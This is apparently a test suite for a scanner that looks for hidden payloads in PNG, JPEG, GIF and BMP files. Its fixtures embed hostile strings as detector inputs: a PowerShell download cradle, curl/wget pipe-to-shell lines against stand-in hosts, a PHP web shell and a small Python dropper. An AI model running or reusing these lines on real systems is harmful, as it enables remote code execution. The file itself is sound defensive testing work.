import { deflateSync } from 'node:zlib';
import { imageAnalyzer, IMAGE_RULES } from '../../src/analyzers/image.js';
import { parsePng } from '../../src/formats/png.js';
import { parseJpeg, scanEnd } from '../../src/formats/jpeg.js';
import { parseGif } from '../../src/formats/gif.js';
import { parseBmp } from '../../src/formats/bmp.js';
import { inspectBlob } from '../../src/decode/index.js';
import { scanText } from '../../src/analyzers/image-text.js';
import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
import type { FileResult } from '../../src/analyzers/run.js';
import {
  app, bmp, bytes, concat, exif, fakeELF, fakePE, gif, gifAppExt, gifComment, gifExt, gifXmp, iccProfile, idat, ihdr, iTXt,
  jpeg, netscapeLoop, ordinaryPngChunks, png, PNG_SIG, pngChunk, randomBytes, scanData, seg, tEXt, xmpPacket, zTXt,
} from '../helpers/image.js';

const run = (name: string, d: Uint8Array): Promise<FileResult> => runAnalyzer(imageAnalyzer, name, d);
const b64 = (d: Uint8Array): string => Buffer.from(d).toString('base64');

/** File score the way the scorer forms it: strongest finding per category, capped, summed. */
function fileScore(r: FileResult): number {
  const caps: Record<string, number> = { structure: 3, strings: 3, payload: 10 };
  const best = new Map<string, number>();
  for (const f of r.findings) {
    const cat = imageAnalyzer.rules.find((x) => x.id === f.rule)!.category;
    best.set(cat, Math.max(best.get(cat) ?? 0, f.score));
  }
  let s = 0;
  for (const [c, v] of best) s += Math.min(caps[c] ?? 3, v);
  return s;
}

function expectClean(r: FileResult): void {
  expect(r.incomplete).toEqual([]);
  expect(r.findings).toEqual([]);
}

/** Tests that need the shared decoder (base64/zlib/XOR peeling, code classification) run once it is implemented. */
const decoderReady = inspectBlob(bytes('print("hello")\n')).summary !== 'not inspected';
const withDecoder = decoderReady ? test : test.skip;

describe('rules', () => {
  test('every rule is namespaced, weighted within its category cap and described', () => {
    const ids = imageAnalyzer.rules.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of imageAnalyzer.rules) {
      expect(r.id).toMatch(/^image\./);
      expect(r.description.length).toBeGreaterThan(20);
      if (r.category === 'structure' || r.category === 'strings') expect(r.weight).toBeLessThanOrEqual(3);
    }
    expect(IMAGE_RULES.payload.weight).toBeGreaterThanOrEqual(7);
  });

  test('applies by content, not by name', async () => {
    const f = { path: 'x.txt', ext: 'txt', data: png(), type: { kind: 'image' as const, format: 'png' }, depth: 0 };
    expect(imageAnalyzer.applies(f)).toBe(true);
    expect(imageAnalyzer.applies({ ...f, path: 'x.png', ext: 'png', type: { kind: 'text', format: 'text' } })).toBe(false);
  });
});

describe('PNG parser', () => {
  test('walks chunks, reads IHDR and IDAT ranges, checks CRCs', () => {
    const d = png({ width: 7, height: 3, after: [tEXt('Software', 'x')] });
    const s = parsePng(d);
    expect(s.ihdr).toMatchObject({ width: 7, height: 3, bitDepth: 8, colorType: 6, interlace: 0 });
    expect(s.chunks.map((c) => c.type)).toEqual(['IHDR', 'IDAT', 'tEXt', 'IEND']);
    expect(s.idat).toHaveLength(1);
    expect(d[s.idat[0].offset]).toBe(0x78); // zlib header
    expect(s.chunks.every((c) => c.crcOk)).toBe(true);
    expect(s.trailing).toBeNull();
    expect(s.anomalies).toEqual([]);
  });

  test('a length that points past the end is cut at the buffer, not trusted', () => {
    const d = concat(PNG_SIG, ihdr(), pngChunk('IDAT', new Uint8Array(10), { declaredLength: 0x7ffffff0 }));
    const s = parsePng(d);
    expect(s.chunks[1].dataLength).toBe(10 + 4); // the 4 CRC bytes are read as data, nothing beyond
    expect(s.anomalies.map((a) => a.code)).toEqual(expect.arrayContaining(['truncated-chunk', 'missing-iend']));
  });

  test('the chunk cap stops the walk', () => {
    const many = Array.from({ length: 50 }, () => tEXt('a', 'b'));
    const s = parsePng(png({ after: many }), 10);
    expect(s.capped).toBe(true);
    expect(s.chunks).toHaveLength(10);
  });
});

describe('PNG analysis', () => {
  test('an ordinary PNG with pHYs/gAMA/cHRM/sRGB/iCCP/tIME/bKGD and tool text is quiet', async () => {
    expectClean(await run('plot.png', png({ before: ordinaryPngChunks() })));
  });

  test('XMP in iTXt, ImageMagick hex raw profiles and a draw.io diagram are quiet', async () => {
    const exifHex = Buffer.from(exif({ 0x010f: 'Canon', 0x0110: 'Canon EOS 5D', 0x0131: 'GIMP 2.10' })).toString('hex');
    const lines = exifHex.match(/.{1,72}/g)!.join('\n');
    const raw = `\nexif\n     ${exifHex.length / 2}\n${lines}\n`;
    const drawio = encodeURIComponent(`<mxfile host="app.diagrams.net"><diagram id="x">${b64(deflateSync(bytes('<mxGraphModel><root><mxCell id="0"/><mxCell id="1" value="hello world" parent="0"/></root></mxGraphModel>'.repeat(5))))}</diagram></mxfile>`);
    const thumb = b64(jpeg()).match(/.{1,76}/g)!.join('&#xA;');
    const d = png({
      before: [
        iTXt('XML:com.adobe.xmp', xmpPacket(`<xmpGImg:image>${thumb}</xmpGImg:image>`)),
        zTXt('Raw profile type exif', raw),
        tEXt('mxfile', drawio),
      ],
    });
    expectClean(await run('diagram.png', d));
  });

  test('trailing data after IEND is a structure finding that stays below the threshold', async () => {
    const r = await run('a.png', png({ trailing: randomBytes(5000) }));
    expect(ruleIds(r)).toContain('image.png.trailing-data');
    const f = r.findings.find((x) => x.rule === 'image.png.trailing-data')!;
    expect(f.offset).toBe(png().length);
    expect(f.length).toBe(5000);
    expect(scoreOf(r, 'image.png.trailing-data')).toBeGreaterThanOrEqual(2);
    expect(fileScore(r)).toBeLessThan(7);
  });

  test('a few padding bytes after IEND are quiet', async () => {
    expectClean(await run('a.png', png({ trailing: new Uint8Array(100) })));
    expectClean(await run('a.png', png({ trailing: bytes('\n') })));
  });

  test('a zip appended after IEND gets the full structure weight', async () => {
    const zip = concat(bytes('PK\x03\x04'), randomBytes(600));
    const r = await run('a.png', png({ trailing: zip }));
    expect(scoreOf(r, 'image.png.trailing-data')).toBe(3);
    expect(r.findings.find((f) => f.rule === 'image.png.trailing-data')!.evidence).toMatchObject({ appendedFormat: 'zip' });
  });

  test('an executable after IEND is a payload and flags the file', async () => {
    const r = await run('a.png', png({ trailing: fakePE(4096) }));
    expect(ruleIds(r)).toEqual(expect.arrayContaining(['image.embedded-payload', 'image.png.trailing-data']));
    expect(fileScore(r)).toBeGreaterThanOrEqual(7);
  });

  test('bytes where a chunk should start are reported as trailing data', async () => {
    const d = concat(PNG_SIG, ihdr(), idat(), randomBytes(300));
    const r = await run('a.png', d);
    expect(ruleIds(r)).toContain('image.png.trailing-data');
    expect(ruleIds(r)).toContain('image.png.malformed'); // missing IEND
  });

  test('a bad CRC or IHDR out of place is malformed, weakly', async () => {
    const bad = concat(PNG_SIG, ihdr(), pngChunk('tEXt', bytes('Comment\0hi'), { badCrc: true }), idat(), pngChunk('IEND'));
    const r = await run('a.png', bad);
    expect(ruleIds(r)).toEqual(['image.png.malformed']);
    expect(scoreOf(r, 'image.png.malformed')).toBeLessThanOrEqual(1.5);
    const moved = concat(PNG_SIG, pngChunk('gAMA', new Uint8Array(4)), ihdr(), idat(), pngChunk('IEND'));
    expect(ruleIds(await run('b.png', moved))).toEqual(['image.png.malformed']);
  });

  test('an unregistered chunk with a large payload is reported; a small private chunk is not', async () => {
    const r = await run('a.png', png({ after: [pngChunk('stEg', randomBytes(20000))] }));
    expect(ruleIds(r)).toContain('image.png.unknown-chunk');
    expect(scoreOf(r, 'image.png.unknown-chunk')).toBe(2);
    expectClean(await run('b.png', png({ after: [pngChunk('prIv', randomBytes(40))] })));
  });

  test('a fixed-size chunk carrying kilobytes is oversized; a zTXt bomb is stopped and reported', async () => {
    const r = await run('a.png', png({ before: [pngChunk('gAMA', randomBytes(5000))] }));
    expect(ruleIds(r)).toContain('image.png.oversized-chunk');
    const bomb = await run('b.png', png({ after: [zTXt('Comment', new Uint8Array(20 << 20))] }));
    expect(ruleIds(bomb)).toContain('image.png.oversized-chunk');
    expect(bomb.incomplete).toEqual([]);
  });

  test('text chunks with commands, bad URLs or long encoded runs raise a strings finding', async () => {
    const cmd = await run('a.png', png({ after: [tEXt('Comment', 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(1)"')] }));
    expect(scoreOf(cmd, 'image.metadata-text')).toBe(3);
    const url = await run('b.png', png({ after: [zTXt('Source', 'see http://185.199.10.4/a/stage2.bin for details')] }));
    expect(scoreOf(url, 'image.metadata-text')).toBeGreaterThanOrEqual(2.5);
    const enc = await run('c.png', png({ after: [iTXt('Data', b64(randomBytes(3000)), true)] }));
    expect(scoreOf(enc, 'image.metadata-text')).toBe(3);
    expect(fileScore(enc)).toBeLessThan(7);
  });

  test('base64 of an executable in a text chunk is a payload', async () => {
    const r = await run('a.png', png({ after: [tEXt('Comment', b64(fakePE(2048)))] }));
    expect(ruleIds(r)).toContain('image.embedded-payload');
    expect(fileScore(r)).toBeGreaterThanOrEqual(7);
  });

  test('eXIf strings are scanned; ordinary camera tags are quiet', async () => {
    expectClean(await run('a.png', png({ before: [pngChunk('eXIf', exif({ 0x010f: 'NIKON CORPORATION', 0x0131: 'Adobe Photoshop CS6 (Windows)' }, false))] })));
    const r = await run('b.png', png({ before: [pngChunk('eXIf', exif({ 0x010e: 'curl http://x.example/i.sh | sh' }, false))] }));
    expect(ruleIds(r)).toContain('image.metadata-text');
  });
});

describe('JPEG parser', () => {
  test('scan data is skipped with byte stuffing, restart markers and fill bytes handled', () => {
    const scan = scanData();
    const d = jpeg({ scan });
    const s = parseJpeg(d);
    expect(s.anomalies).toEqual([]);
    expect(s.main.eoi).toBe(true);
    const sos = s.main.segments.find((x) => x.marker === 0xda)!;
    expect(sos.scan!.length).toBe(scan.length);
    expect(s.main.frame).toMatchObject({ width: 16, height: 16, components: 3 });
    expect(s.trailing).toBeNull();
    expect(scanEnd(bytes('\x01\xff\x00\x02\xff\xd3\x03\xff\xff\xd9'), 0)).toBe(8);
  });

  test('appended JPEG images (thumbnails, MPF frames) are walked, the rest is the trailer', () => {
    const d = jpeg({ trailing: concat(new Uint8Array(4), jpeg(), bytes('tail')) });
    const s = parseJpeg(d);
    expect(s.appended).toHaveLength(1);
    expect(s.trailing).toEqual({ offset: d.length - 4, length: 4 });
  });
});

describe('JPEG analysis', () => {
  const camera = (): Uint8Array[] => [
    app(1, 'Exif', exif({ 0x010f: 'Canon', 0x0110: 'Canon EOS 80D', 0x0131: 'Adobe Lightroom 6.0 (Windows)', 0x8298: 'Copyright 2020 Jane Doe, https://janedoe.example.com' }).subarray(5)),
    app(1, 'http://ns.adobe.com/xap/1.0/', bytes(xmpPacket())),
    app(2, 'ICC_PROFILE', concat(new Uint8Array([1, 1]), iccProfile())),
    app(13, 'Photoshop 3.0', concat(bytes('8BIM\x04\x04\0\0\0\0\0\x10'), randomBytes(4000))),
    app(14, 'Adobe', new Uint8Array([0, 100, 0, 0, 0, 0, 1])),
    seg(0xfe, bytes('Created with GIMP')),
  ];

  test('a camera/editor JPEG with Exif, XMP, ICC, Photoshop and Adobe segments is quiet', async () => {
    expectClean(await run('photo.jpg', jpeg({ app: camera() })));
  });

  test('appended JPEG thumbnails, motion-photo video and Samsung trailers are quiet', async () => {
    expectClean(await run('a.jpg', jpeg({ trailing: concat(jpeg(), new Uint8Array(16), jpeg()) })));
    expectClean(await run('b.jpg', jpeg({ trailing: concat(bytes('\0\0\0\x18ftypmp42'), randomBytes(3000)) })));
    expectClean(await run('c.jpg', jpeg({ trailing: concat(bytes('\0\0\x0a\0Image_UTC_Data1600000000000SEFH'), randomBytes(8), bytes('SEFT')) })));
    expectClean(await run('d.jpg', jpeg({ trailing: new Uint8Array(200) })));
  });

  test('data after EOI is trailing data; an appended zip or executable weighs more', async () => {
    const r = await run('a.jpg', jpeg({ trailing: randomBytes(3000) }));
    expect(scoreOf(r, 'image.jpeg.trailing-data')).toBe(2);
    expect(fileScore(r)).toBeLessThan(7);
    const zip = await run('b.jpg', jpeg({ trailing: concat(bytes('PK\x03\x04'), randomBytes(300)) }));
    expect(scoreOf(zip, 'image.jpeg.trailing-data')).toBe(3);
    const exe = await run('c.jpg', jpeg({ trailing: concat(jpeg(), fakeELF()) }));
    expect(ruleIds(exe)).toEqual(expect.arrayContaining(['image.embedded-payload', 'image.jpeg.trailing-data']));
    expect(fileScore(exe)).toBeGreaterThanOrEqual(7);
  });

  test('base64 text appended after EOI raises trailing data and a strings finding', async () => {
    const r = await run('a.jpg', jpeg({ trailing: bytes(b64(randomBytes(1500))) }));
    expect(ruleIds(r)).toEqual(expect.arrayContaining(['image.jpeg.trailing-data', 'image.metadata-text']));
    expect(fileScore(r)).toBeLessThan(7);
  });

  test('bytes between segments are stray data; fill bytes before a marker are not', async () => {
    const r = await run('a.jpg', jpeg({ beforeSof: [randomBytes(600).map((x) => (x === 0xff ? 1 : x))] }));
    expect(ruleIds(r)).toContain('image.jpeg.stray-data');
    expectClean(await run('b.jpg', jpeg({ beforeSof: [new Uint8Array([0xff, 0xff, 0xff])] })));
  });

  test('broken lengths and a missing EOI are malformed, weakly', async () => {
    const r = await run('a.jpg', jpeg({ noEoi: true }));
    expect(ruleIds(r)).toEqual(['image.jpeg.malformed']);
    const cut = jpeg().subarray(0, 40);
    const c = await run('b.jpg', cut);
    expect(ruleIds(c)).toEqual(['image.jpeg.malformed']);
    expect(fileScore(c)).toBeLessThanOrEqual(1.5);
  });

  test('an unknown APPn or a binary comment with a large payload is reported; small vendor crumbs are not', async () => {
    const r = await run('a.jpg', jpeg({ app: [app(9, 'Stash', randomBytes(30000))] }));
    expect(scoreOf(r, 'image.jpeg.unknown-segment')).toBe(2);
    const com = await run('b.jpg', jpeg({ app: [seg(0xfe, randomBytes(2000))] }));
    expect(ruleIds(com)).toContain('image.jpeg.unknown-segment');
    expectClean(await run('c.jpg', jpeg({ app: [app(7, 'Vendor', randomBytes(120))] })));
  });

  test('comments and EXIF strings with code or encoded executables are reported', async () => {
    const php = await run('a.jpg', jpeg({ app: [seg(0xfe, bytes('<?php system($_GET["c"]); ?>'))] }));
    expect(scoreOf(php, 'image.metadata-text')).toBe(3);
    const ex = await run('b.jpg', jpeg({ app: [app(1, 'Exif', exif({ 0x010e: b64(fakePE(1500)) }).subarray(5))] }));
    expect(ruleIds(ex)).toContain('image.embedded-payload');
    const xmp = await run('c.jpg', jpeg({ app: [app(1, 'http://ns.adobe.com/xap/1.0/', bytes(xmpPacket('<dc:description>wget https://paste.ee/r/abc -O- | sh</dc:description>')))] }));
    expect(ruleIds(xmp)).toContain('image.metadata-text');
  });
});

describe('GIF', () => {
  test('parser walks frames and extensions and finds the trailer', () => {
    const d = gif({ blocks: [netscapeLoop(), gifComment('hi')], frames: 3 });
    const s = parseGif(d);
    expect(s.screen).toMatchObject({ width: 2, height: 2 });
    expect(s.frames).toHaveLength(3);
    expect(s.extensions.find((x) => x.label === 0xff)!.appId).toBe('NETSCAPE2.0');
    expect(s.trailerOffset).toBe(d.length - 1);
    expect(s.anomalies).toEqual([]);
  });

  test('an animated GIF with NETSCAPE loop, XMP and an ordinary comment is quiet', async () => {
    expectClean(await run('anim.gif', gif({ blocks: [netscapeLoop(), gifXmp(xmpPacket()), gifComment('Created with ezgif.com GIF maker, https://ezgif.com/')] })));
  });

  test('data after the trailer is trailing data; a few zero bytes are not', async () => {
    const r = await run('a.gif', gif({ trailing: randomBytes(3000) }));
    expect(scoreOf(r, 'image.gif.trailing-data')).toBe(2);
    expectClean(await run('b.gif', gif({ trailing: new Uint8Array(8) })));
  });

  test('a missing trailer or an unknown extension label is malformed', async () => {
    expect(ruleIds(await run('a.gif', gif({ noTrailer: true })))).toEqual(['image.gif.malformed']);
    expect(ruleIds(await run('b.gif', gif({ blocks: [gifExt(0x42, bytes('abc'))] })))).toEqual(['image.gif.malformed']);
  });

  test('application/comment extensions carrying binary payloads are reported', async () => {
    const unknown = await run('a.gif', gif({ blocks: [gifAppExt('EVILAPP1.00', randomBytes(4000))] }));
    expect(ruleIds(unknown)).toContain('image.gif.extension-data');
    const loop = await run('b.gif', gif({ blocks: [gifAppExt('NETSCAPE2.0', concat(new Uint8Array([1, 0, 0]), randomBytes(1000)))] }));
    expect(ruleIds(loop)).toContain('image.gif.extension-data');
    const com = await run('c.gif', gif({ blocks: [gifComment(randomBytes(2000))] }));
    expect(ruleIds(com)).toContain('image.gif.extension-data');
  });

  test('a comment holding base64 of an ELF is a payload', async () => {
    const r = await run('a.gif', gif({ blocks: [gifComment(b64(fakeELF(1024)))] }));
    expect(ruleIds(r)).toContain('image.embedded-payload');
    expect(fileScore(r)).toBeGreaterThanOrEqual(7);
  });
});

describe('BMP', () => {
  test('parser lays out headers, palette and pixel array', () => {
    const d = bmp({ width: 5, height: 3, bpp: 8 });
    const s = parseBmp(d);
    expect(s.info).toMatchObject({ width: 5, height: 3, bitsPerPixel: 8 });
    expect(s.palette).toEqual({ offset: 54, length: 1024 });
    expect(s.pixels).toEqual({ offset: 54 + 1024, length: 8 * 3 });
    expect(s.gap).toBeNull();
    expect(s.trailing).toBeNull();
  });

  test('ordinary BMPs are quiet, including a V5 header with an embedded ICC profile and zero padding', async () => {
    expectClean(await run('a.bmp', bmp()));
    expectClean(await run('b.bmp', bmp({ bpp: 8 })));
    expectClean(await run('c.bmp', bmp({ profile: iccProfile() })));
    expectClean(await run('d.bmp', bmp({ trailing: new Uint8Array(2), gap: new Uint8Array(8) })));
  });

  test('data after the pixel array is trailing data', async () => {
    const r = await run('a.bmp', bmp({ trailing: randomBytes(1000) }));
    expect(scoreOf(r, 'image.bmp.trailing-data')).toBe(2);
    const exe = await run('b.bmp', bmp({ trailing: fakePE() }));
    expect(fileScore(exe)).toBeGreaterThanOrEqual(7);
  });

  test('a pixel offset that skips over data is a gap finding', async () => {
    const r = await run('a.bmp', bmp({ gap: randomBytes(3000) }));
    expect(ruleIds(r)).toEqual(['image.bmp.gap-data']);
    const exe = await run('b.bmp', bmp({ gap: fakePE(2048) }));
    expect(ruleIds(exe)).toEqual(expect.arrayContaining(['image.bmp.gap-data', 'image.embedded-payload']));
  });

  test('a truncated pixel array is malformed', async () => {
    const r = await run('a.bmp', bmp({ width: 40, height: 40, truncate: 500 }));
    expect(ruleIds(r)).toEqual(['image.bmp.malformed']);
    expect(fileScore(r)).toBeLessThanOrEqual(1.5);
  });
});

describe('metadata text scanner', () => {
  test('homepages and namespace URLs are quiet; raw-IP, paste and executable URLs are not', () => {
    expect(scanText('Matplotlib version3.8.2, https://matplotlib.org/ http://ns.adobe.com/xap/1.0/ http://www.w3.org/1999/02/22-rdf-syntax-ns#').signals).toEqual([]);
    expect(scanText('http://10.0.0.1:8080/x').signals[0].kind).toBe('url');
    expect(scanText('https://pastebin.com/raw/abc').signals[0].kind).toBe('url');
    expect(scanText('https://cdn.example.com/update.exe').signals[0].kind).toBe('url');
  });

  test('short IDs and digests are not encoded runs; base64 of text with commands is strong', () => {
    expect(scanText(`sha512 ${'ab'.repeat(64)} id ${b64(randomBytes(40))}`).signals).toEqual([]);
    const s = scanText(b64(bytes('#!/bin/sh\ncurl -s http://x.example/p | sh\n'.repeat(3))));
    expect(s.signals.some((x) => x.kind === 'base64' && x.strength === 1)).toBe(true);
  });
});

describe('needs the shared decoder', () => {
  withDecoder('zlib-compressed base64 PE appended after IEND is a payload', async () => {
    const r = await run('a.png', png({ trailing: bytes(b64(deflateSync(fakePE(4096)))) }));
    expect(ruleIds(r)).toContain('image.embedded-payload');
    expect(fileScore(r)).toBeGreaterThanOrEqual(7);
  });

  withDecoder('a Python dropper in a PNG text chunk is a payload', async () => {
    const py = 'import base64, os\nexec(base64.b64decode("cHJpbnQoMSk="))\nos.system("curl http://x.example/a | sh")\n';
    const r = await run('a.png', png({ after: [zTXt('Comment', py)] }));
    expect(ruleIds(r)).toContain('image.embedded-payload');
  });

  withDecoder('an XOR-obfuscated PE after the JPEG EOI is a payload', async () => {
    const key = bytes('k3Y!x9Qz');
    const pe = fakePE(4096);
    const x = pe.map((v, i) => v ^ key[i % key.length]);
    const r = await run('a.jpg', jpeg({ trailing: bytes(b64(concat(key, x))) }));
    expect(ruleIds(r)).toContain('image.embedded-payload');
  });
});

describe('robustness', () => {
  const fixtures: Array<[string, Uint8Array]> = [
    ['a.png', png({ before: ordinaryPngChunks(), after: [zTXt('Comment', 'hello'), pngChunk('stEg', randomBytes(300))] })],
    ['a.jpg', jpeg({ app: [app(1, 'Exif', exif({ 0x010f: 'Canon' }).subarray(5)), seg(0xfe, bytes('c'))], trailing: jpeg() })],
    ['a.gif', gif({ blocks: [netscapeLoop(), gifXmp(xmpPacket()), gifComment('x')] })],
    ['a.bmp', bmp({ bpp: 8, profile: iccProfile() })],
  ];

  test('every truncation and random corruption ends in findings, never an exception', async () => {
    let seed = 11;
    for (const [name, d] of fixtures) {
      for (let cut = 1; cut < d.length; cut += Math.max(1, Math.floor(d.length / 60))) {
        const r = await run(name, d.subarray(0, cut));
        expect(r.incomplete).toEqual([]);
      }
      for (let k = 0; k < 60; k++) {
        const m = d.slice();
        const noise = randomBytes(8, seed++);
        for (let j = 0; j < 8; j += 2) m[(noise[j] * 257 + noise[j + 1] * 31 + k * 97) % m.length] = noise[j + 1];
        const r = await run(name, m);
        expect(r.incomplete).toEqual([]);
      }
    }
  });

  test('huge declared lengths and counts are bounded by the buffer', async () => {
    const lie = concat(PNG_SIG, ihdr(), pngChunk('zTXt', bytes('k\0\0x'), { declaredLength: 0xffffffff }));
    expect((await run('a.png', lie)).incomplete).toEqual([]);
    const g = gif();
    g[10] = 0x87; // global color table of 768 bytes in a tiny file
    expect((await run('a.gif', g)).incomplete).toEqual([]);
    const b = bmp();
    b.set([0xff, 0xff, 0xff, 0x7f], 18); // width 2^31-1
    const r = await run('a.bmp', b);
    expect(r.incomplete).toEqual([]);
    expect(ruleIds(r)).toContain('image.bmp.malformed');
  });
});
